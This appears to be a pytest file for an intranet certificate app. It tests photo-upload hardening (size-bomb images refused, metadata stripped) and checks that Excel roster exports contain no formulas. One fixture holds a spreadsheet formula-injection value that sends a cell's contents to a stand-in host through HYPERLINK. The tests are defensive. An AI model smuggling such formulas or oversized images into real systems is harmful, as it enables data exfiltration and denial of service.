"""Files cannot hurt: holder photos are checked before decoding and normalised when stored;
the roster and the cleanup candidates workbook hold no formula that came from a name."""
import io

import pytest
from openpyxl import load_workbook
from PIL import Image

from intranet.testing import login, make_person
from intranet_certificates import cleanup, photos
from intranet_certificates.models import Certificate

FORMULA_NAME = '=HYPERLINK("http://x"&B3,"点此核对")'


def png(size, mode="1") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG", optimize=True)
    return out.getvalue()


def post_photo(client, cert, data, name="证件照.png"):
    return client.post(f"/certificates/{cert.id}/photo", data={"photo": (io.BytesIO(data), name)},
                       content_type="multipart/form-data", follow_redirects=True)


def stored(db, cert):
    db.session.expire_all()
    return db.session.get(Certificate, cert.id).photo_file


@pytest.mark.parametrize("size", [(20000, 20000), (12000, 12000), (4001, 300)])
def test_huge_photo_is_refused_with_a_message(client, db, certs, size):
    data = png(size)
    assert len(data) < 2 * 1024 * 1024  # a few KB on disk
    cert = certs.card()
    login(client, certs.bureau)
    response = post_photo(client, cert, data)
    assert response.status_code == 200
    assert "照片像素尺寸过大" in response.get_data(as_text=True)
    assert stored(db, cert) in ("", None)


def test_photo_is_scaled_down_and_loses_its_metadata(client, db, certs):
    exif = Image.Exif()
    exif[0x010F] = "某品牌相机"                 # Make
    exif.get_ifd(0x8825)[2] = (26.0, 5.0, 30.0)  # GPSLatitude
    out = io.BytesIO()
    Image.new("RGB", (3000, 4000), (120, 130, 140)).save(out, "JPEG", exif=exif, quality=60)
    assert Image.open(io.BytesIO(out.getvalue())).getexif()
    cert = certs.card()
    login(client, certs.bureau)
    html = post_photo(client, cert, out.getvalue(), "手机照片.jpg").get_data(as_text=True)
    assert "照片已更新" in html
    with Image.open(photos.photo_path(stored(db, cert))) as image:
        assert image.format == "JPEG" and image.width <= photos.STORED_BOX[0] and image.height <= photos.STORED_BOX[1]
        assert max(image.size) >= 600  # scaled to fit the box, not further
        assert not image.getexif() and "exif" not in image.info


def test_transparent_png_is_stored_as_rgb_png(client, db, certs):
    cert = certs.card()
    login(client, certs.bureau)
    post_photo(client, cert, png((60, 80), "RGBA"))
    with Image.open(photos.photo_path(stored(db, cert))) as image:
        assert image.format == "PNG" and image.mode == "RGB" and image.size == (60, 80)


@pytest.mark.parametrize("data", [b"not an image", b"\x89PNG\r\n\x1a\n broken", b"GIF89a" + b"\0" * 100])
def test_non_image_is_refused(client, db, certs, data):
    cert = certs.card()
    login(client, certs.bureau)
    html = post_photo(client, cert, data).get_data(as_text=True)
    assert "照片应为 JPG 或 PNG 图片" in html or "照片文件已损坏" in html
    assert stored(db, cert) in ("", None)


def cells_of(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_roster_holds_no_formula(client, db, certs, tmp_path):
    cert = certs.card(make_person(certs.org.town_a, FORMULA_NAME))
    login(client, certs.bureau)
    cells = cells_of(client.get("/certificates/roster.xlsx").data)
    assert all(c.data_type != "f" for c in cells)
    assert FORMULA_NAME in [c.value for c in cells]
    number = next(c for c in cells if c.value == cert.number)
    assert number.data_type == "s" and number.number_format == "@"


def test_cleanup_candidates_hold_no_formula(client, db, certs):
    person = make_person(certs.org.town_a, FORMULA_NAME, status="调离")
    certs.card(person)
    campaign = cleanup.open_campaign("清理", certs.org.county, actor=certs.bureau)
    db.session.commit()
    login(client, certs.bureau)
    response = client.get(f"/certificates/cleanup/{campaign.id}/candidates.xlsx")
    assert response.status_code == 200
    cells = cells_of(response.data)
    assert all(c.data_type != "f" for c in cells)
    assert FORMULA_NAME in [c.value for c in cells]
